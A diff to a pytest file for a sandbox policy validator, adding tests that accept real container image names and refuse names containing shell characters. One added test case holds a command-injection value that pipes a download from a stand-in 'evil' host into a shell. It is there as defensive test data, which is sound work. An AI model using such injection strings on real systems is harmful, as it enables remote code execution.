@@ -57,6 +57,9 @@ REFUSED: dict[str, tuple[dict[str, Any], str]] = {
         {"network": "ns:/proc/1/ns/net"}, "a sandbox shares no network namespace with the host or a container"),
     "no network's name": ({"network": "-"}, "it must be a name that the engine knows"),
     "no runtime's name": ({"runtime": "/bin/sh"}, "it must be a name that the engine knows"),
+    "an image that is a command": (
+        {"image": "x; curl http://evil|sh #"},
+        "it must be the name of an image, like python:3.13 or host/name@sha256:..."),
     "a user by name": ({"user": "root"}, "it must be UID:GID, two numbers of at most 2147483647"),
     "a uid that no engine takes": (
         {"user": "2147483648:0"}, "it must be UID:GID, two numbers of at most 2147483647"),
@@ -80,3 +83,38 @@ def test_what_cannot_be_enforced_is_refused(case: str) -> None:
     with pytest.raises(ValidationError) as caught:
         Policy.model_validate(values)
     assert [error["msg"] for error in caught.value.errors()] == [words]
+
+
+DIGEST = "sha256:" + "0a" * 32
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        *("python", "python:3.13-slim", "mine_x:1", "a__b:_T.1-x", "a.b-c--d/e_f", DIGEST, "0123456789ab"),
+        *("ghcr.io/owner/name:tag", "localhost:5000/name", "Registry.Example/name", "[::1]:5000/name:1"),
+        *(f"name@{DIGEST}", f"localhost:5000/a/b:1@{DIGEST}", "cellblock/python:0123456789ab"),
+    ],
+)
+def test_whatever_names_an_image_is_taken(image: str) -> None:
+    assert Policy(image=image).image == image
+
+
+@pytest.mark.parametrize("mark", " ;|&$`'\"\\<>(){}*?!#~=,\n\r\t\0\x1b\u202e\u00e9%")
+@pytest.mark.parametrize("place", range(4))
+def test_no_image_holds_what_a_shell_obeys(mark: str, place: int) -> None:
+    parts = ["host.io", "/name", ":tag", f"@{DIGEST}"]
+    with pytest.raises(ValidationError, match="it must be the name of an image"):
+        Policy(image="".join(parts[: place + 1]) + mark + "".join(parts[place + 1 :]))
+
+
+@pytest.mark.parametrize("image", ["", "-rm", "--a", "/name", "name/", "a//b", "name:", "name:-x", "a@b", "a" * 513])
+def test_what_is_like_an_image_and_names_none_is_refused(image: str) -> None:
+    with pytest.raises(ValidationError, match="it must be the name of an image"):
+        Policy(image=image)
+
+
+def test_a_long_name_takes_time_in_proportion() -> None:
+    for image in ("a-" * 100_000, "a" * 200_000 + "!", "a/" * 100_000, "a." * 100_000):
+        with pytest.raises(ValidationError, match="it must be the name of an image"):
+            Policy(image=image)
